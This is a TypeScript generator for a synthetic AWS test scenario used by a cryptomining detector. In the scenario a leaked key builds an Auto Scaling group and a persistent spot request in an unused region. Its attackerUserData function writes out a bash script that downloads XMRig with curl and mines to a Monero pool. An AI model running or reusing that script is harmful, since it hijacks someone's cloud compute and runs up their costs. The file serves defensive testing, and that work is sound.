/**
 * Generates scenarios/leaked-key-asg/snapshot.json: a leaked key builds relaunch machinery in
 * us-east-2, a region the company never used. It probes with a DryRun, creates a launch template
 * whose user data starts XMRig and switches on termination protection, an Auto Scaling group of six
 * c5.9xlarge from it, and a persistent spot request for a g4dn.12xlarge with the same script. The
 * company's own web Auto Scaling group in eu-west-1 (tagged, months old) must stay quiet.
 *
 * Run: npx tsx scripts/scenarios/leaked-key-asg.ts
 */
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { redactSecrets } from "../../lambda/core/redact.js";
import type { CloudTrailEvent } from "../../lambda/core/sections/cloudtrail.js";
import type { Relaunch } from "../../lambda/core/sections/relaunch.js";
import {
  type AccountSnapshot,
  type AccountSnapshotInput,
  AccountSnapshotSchema,
  type InstanceMetrics,
  SNAPSHOT_SCHEMA_VERSION,
} from "../../lambda/core/snapshot.js";
import {
  hoursBefore,
  iso,
  MINUTE_MS,
  metricSeries,
  Rng,
  regionList,
  seedFrom,
  stableId,
  storedUserData,
  writeCompactJson,
} from "./lib.js";
import {
  ACCOUNT_ID,
  type Attacker,
  attackerEvent,
  ENABLED_REGIONS,
  fullCoverage,
  HOME_REGION,
  HOURLY_USD,
  homeCosts,
  homeWorkload,
  INSTANCE_TYPES,
  type InstanceInput,
  NOT_OPTED_IN_REGIONS,
} from "./small-company.js";

export const WINDOW_END = "2026-11-24T06:00:00.000Z";
const WINDOW_START = hoursBefore(WINDOW_END, 24);
const COLLECTED_AT = "2026-11-24T06:03:02.000Z";
const COST_BILLED_UNTIL = "2026-11-24T02:00:00.000Z";
const ATTACK_START = "2026-11-23T14:41:00.000Z";
export const ATTACK_REGION = "us-east-2";
export const ASG_NAME = "prod-batch-workers";
export const LAUNCH_TEMPLATE_ID = stableId("lt", "attack:template");
export const SPOT_REQUEST_ID = "sir-7n3kq2xw";

export const ATTACKER: Attacker = {
  userName: "ci-deployer",
  accessKeyId: "AKIA4LEAKEDASGKEY9QZ",
  sourceIp: "193.142.146.35",
  userAgent: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8",
};
export const FAKE_SECRET_ACCESS_KEY = "p9Vd2Lr8Kq4Wx7Zt1Nb6Hm3Yc5Fg0Sj8Ae2Uo4Ri";

const OUTPUT = join(dirname(fileURLToPath(import.meta.url)), "../../scenarios/leaked-key-asg/snapshot.json");

export function attackerUserData(): string {
  return [
    "#!/bin/bash",
    `export AWS_ACCESS_KEY_ID=${ATTACKER.accessKeyId}`,
    `export AWS_SECRET_ACCESS_KEY=${FAKE_SECRET_ACCESS_KEY}`,
    "curl -sL https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz | tar -xz -C /opt",
    "/opt/xmrig-6.22.2/xmrig -o pool.supportxmr.com:443 --tls -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p asg --donate-level 1 -B",
  ].join("\n");
}

interface Attack {
  instances: InstanceInput[];
  byInstance: Record<string, InstanceMetrics>;
  relaunch: Relaunch;
  events: CloudTrailEvent[];
}

function buildAttack(): Attack {
  const rng = new Rng(seedFrom("attack:asg"));
  const t0 = Date.parse(ATTACK_START);
  const at = (minutes: number) => iso(t0 + minutes * MINUTE_MS + rng.int(0, 50) * 1000);
  const userData = storedUserData(attackerUserData(), redactSecrets);
  const instances: InstanceInput[] = [];
  const byInstance: Record<string, InstanceMetrics> = {};
  const events: CloudTrailEvent[] = [];
  const amiId = stableId("ami", "attack:ubuntu-22.04");

  events.push(
    attackerEvent(ATTACKER, "RunInstances", "ec2.amazonaws.com", ATTACK_REGION, at(0), {
      errorCode: "Client.DryRunOperation",
      errorMessage: "Request would have succeeded, but DryRun flag is set.",
      request: { instanceType: "c5.9xlarge", minCount: "1" },
    }),
  );
  const templateCreated = at(2);
  events.push(
    attackerEvent(ATTACKER, "CreateLaunchTemplate", "ec2.amazonaws.com", ATTACK_REGION, templateCreated, {
      resources: [{ type: "launch-template", id: LAUNCH_TEMPLATE_ID }],
      request: { instanceType: "c5.9xlarge", disableApiTermination: "true" },
    }),
  );
  const asgCreated = at(4);
  events.push(
    attackerEvent(ATTACKER, "CreateAutoScalingGroup", "autoscaling.amazonaws.com", ATTACK_REGION, asgCreated, {
      resources: [{ type: "autoscaling-group", id: ASG_NAME }],
      request: { launchTemplateId: LAUNCH_TEMPLATE_ID, desiredCapacity: "6" },
    }),
  );
  const workerIds: string[] = [];
  for (let k = 0; k < 6; k++) {
    const id = stableId("i", `attack:asg-${k}`);
    workerIds.push(id);
    const launchTime = iso(Date.parse(asgCreated) + (40 + k * 7) * 1000);
    instances.push({
      instanceId: id,
      region: ATTACK_REGION,
      instanceType: "c5.9xlarge",
      state: "running",
      launchTime,
      imageId: amiId,
      vpcId: stableId("vpc", "attack:default"),
      subnetId: stableId("subnet", `attack:${k % 3}`),
      launchTemplateId: LAUNCH_TEMPLATE_ID,
      autoScalingGroup: ASG_NAME,
      publicIpAddress: rng.publicIp(["3.14", "18.116", "3.139"]),
      tags: {
        "aws:autoscaling:groupName": ASG_NAME,
        "aws:ec2launchtemplate:id": LAUNCH_TEMPLATE_ID,
        "aws:ec2launchtemplate:version": "1",
      },
      userData,
      terminationProtection: true,
    });
  }
  const spotCreated = at(9);
  const spotInstanceId = stableId("i", "attack:spot-0");
  events.push(
    attackerEvent(ATTACKER, "RequestSpotInstances", "ec2.amazonaws.com", ATTACK_REGION, spotCreated, {
      resources: [{ type: "spot-request", id: SPOT_REQUEST_ID }],
      request: { instanceType: "g4dn.12xlarge", type: "persistent" },
    }),
  );
  instances.push({
    instanceId: spotInstanceId,
    region: ATTACK_REGION,
    instanceType: "g4dn.12xlarge",
    state: "running",
    launchTime: iso(Date.parse(spotCreated) + 95 * 1000),
    imageId: amiId,
    vpcId: stableId("vpc", "attack:default"),
    subnetId: stableId("subnet", "attack:0"),
    lifecycle: "spot",
    spotInstanceRequestId: SPOT_REQUEST_ID,
    publicIpAddress: rng.publicIp(["3.14", "18.116"]),
    tags: {},
    userData,
    // Spot instances cannot be termination-protected: the persistent request is their protection.
    terminationProtection: false,
  });
  for (const instance of instances) {
    const noise = new Rng(seedFrom(`cpu:${instance.instanceId}`));
    byInstance[instance.instanceId] = {
      cpu: metricSeries({
        start: instance.launchTime,
        end: WINDOW_END,
        periodSeconds: 300,
        value: () => Math.round(Math.min(100, 98.6 + noise.normal(0, 0.6)) * 10) / 10,
      }),
    };
  }

  // The company's own web Auto Scaling group: months old, tagged, benign template.
  const webTemplateId = stableId("lt", "home:web");
  const relaunch: Relaunch = {
    regionsRead: [...ENABLED_REGIONS],
    autoScalingGroups: [
      {
        name: "web-asg",
        arn: `arn:aws:autoscaling:${HOME_REGION}:${ACCOUNT_ID}:autoScalingGroup:${stableId("x", "web-asg").slice(2)}:autoScalingGroupName/web-asg`,
        region: HOME_REGION,
        createdTime: hoursBefore(WINDOW_END, 24 * 150),
        minSize: 3,
        maxSize: 6,
        desiredCapacity: 3,
        launchTemplateId: webTemplateId,
        launchTemplateName: "web",
        instanceTypes: ["t3.large"],
        instanceIds: [],
        tags: { Owner: "platform-team", Environment: "production" },
      },
      {
        name: ASG_NAME,
        arn: `arn:aws:autoscaling:${ATTACK_REGION}:${ACCOUNT_ID}:autoScalingGroup:${stableId("x", ASG_NAME).slice(2)}:autoScalingGroupName/${ASG_NAME}`,
        region: ATTACK_REGION,
        createdTime: asgCreated,
        minSize: 6,
        maxSize: 6,
        desiredCapacity: 6,
        launchTemplateId: LAUNCH_TEMPLATE_ID,
        launchTemplateName: "prod-batch",
        instanceTypes: ["c5.9xlarge"],
        instanceIds: workerIds,
        tags: {},
      },
    ],
    launchTemplates: [
      {
        id: webTemplateId,
        name: "web",
        region: HOME_REGION,
        createTime: hoursBefore(WINDOW_END, 24 * 150),
        createdBy: `arn:aws:iam::${ACCOUNT_ID}:role/terraform`,
        latestVersion: 7,
      },
      {
        id: LAUNCH_TEMPLATE_ID,
        name: "prod-batch",
        region: ATTACK_REGION,
        createTime: templateCreated,
        createdBy: `arn:aws:iam::${ACCOUNT_ID}:user/${ATTACKER.userName}`,
        latestVersion: 1,
        instanceType: "c5.9xlarge",
        imageId: amiId,
        userData,
        disableApiTermination: true,
      },
    ],
    spotRequests: [
      {
        id: SPOT_REQUEST_ID,
        region: ATTACK_REGION,
        state: "active",
        type: "persistent",
        instanceType: "g4dn.12xlarge",
        createTime: spotCreated,
        instanceId: spotInstanceId,
        userData,
      },
    ],
    fleets: [],
  };
  events.sort((a, b) => a.eventTime.localeCompare(b.eventTime) || a.eventId.localeCompare(b.eventId));
  return { instances, byInstance, relaunch, events };
}

function buildCosts(instances: InstanceInput[]): NonNullable<AccountSnapshotInput["costs"]> {
  const ledger = homeCosts(WINDOW_END);
  for (const instance of instances) {
    ledger.addRunning(
      {
        region: instance.region,
        service: "Amazon Elastic Compute Cloud - Compute",
        instanceType: instance.instanceType,
      },
      instance.launchTime,
      WINDOW_END,
      (HOURLY_USD[instance.instanceType] ?? 1) * 1.0,
      COST_BILLED_UNTIL,
    );
  }
  return ledger.toCosts();
}

export function buildLeakedKeyAsg(): AccountSnapshot {
  const home = homeWorkload(WINDOW_END);
  const attack = buildAttack();
  const instances = [...home.instances, ...attack.instances];
  const usedTypes = [...new Set(instances.map((i) => i.instanceType))].sort();
  const instancesIn = (region: string) => instances.filter((i) => i.region === region).length;
  const coverage = fullCoverage(instancesIn, [
    { service: "autoscaling", api: "DescribeAutoScalingGroups" },
    { service: "ec2", api: "DescribeLaunchTemplates" },
    { service: "ec2", api: "DescribeSpotInstanceRequests" },
    { service: "ec2", api: "DescribeFleets" },
    { service: "ec2", api: "DescribeSpotFleetRequests" },
  ]);
  coverage.push(
    {
      region: ATTACK_REGION,
      service: "ec2",
      api: "DescribeInstanceAttribute",
      status: "ok",
      message: "user data read for 7 instances",
    },
    {
      region: ATTACK_REGION,
      service: "ec2",
      api: "DescribeInstanceAttribute:disableApiTermination",
      status: "ok",
      message: "termination protection read for 7 instances",
    },
    { region: ATTACK_REGION, service: "ec2", api: "DescribeLaunchTemplateVersions", status: "ok" },
    { region: ATTACK_REGION, service: "cloudwatch", api: "ListMetrics", status: "ok" },
    {
      region: ATTACK_REGION,
      service: "cloudwatch",
      api: "gpu-metrics",
      status: "skipped",
      reason: "agent-missing",
      message: `No nvidia_smi_utilization_gpu metric in CWAgent for 1 GPU instance (${stableId("i", "attack:spot-0")}): GPU use is not visible without the CloudWatch agent.`,
    },
  );
  return AccountSnapshotSchema.parse({
    schemaVersion: SNAPSHOT_SCHEMA_VERSION,
    accountId: ACCOUNT_ID,
    collectedAt: COLLECTED_AT,
    window: { start: WINDOW_START, end: WINDOW_END },
    source: {
      tool: "minewatch",
      kind: "scenario",
      description:
        "Leaked key: an Auto Scaling group and a persistent spot request mining in us-east-2, with termination protection (generated by scripts/scenarios/leaked-key-asg.ts)",
    },
    regions: regionList(ENABLED_REGIONS, NOT_OPTED_IN_REGIONS),
    instanceTypes: Object.fromEntries(usedTypes.flatMap((t) => (INSTANCE_TYPES[t] ? [[t, INSTANCE_TYPES[t]]] : []))),
    instances,
    metrics: {
      gpuNamespace: "CWAgent",
      gpuAgentInstanceIds: [],
      byInstance: { ...home.byInstance, ...attack.byInstance },
    },
    costs: buildCosts(attack.instances),
    costAnomalies: [],
    coverage,
    cloudTrail: {
      regionsRead: [...ENABLED_REGIONS],
      eventNames: ["RunInstances", "CreateLaunchTemplate", "CreateAutoScalingGroup", "RequestSpotInstances"],
      events: attack.events,
    },
    relaunch: attack.relaunch,
  } satisfies AccountSnapshotInput);
}

function main(): void {
  const snapshot = buildLeakedKeyAsg();
  const bytes = writeCompactJson(OUTPUT, snapshot);
  console.log(`wrote ${OUTPUT} (${(bytes / 1024).toFixed(0)} KiB): ${snapshot.instances.length} instances`);
  if (process.argv.includes("--ids")) {
    for (const i of snapshot.instances) console.log(i.region, i.instanceId, i.instanceType, i.tags.Name ?? "");
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
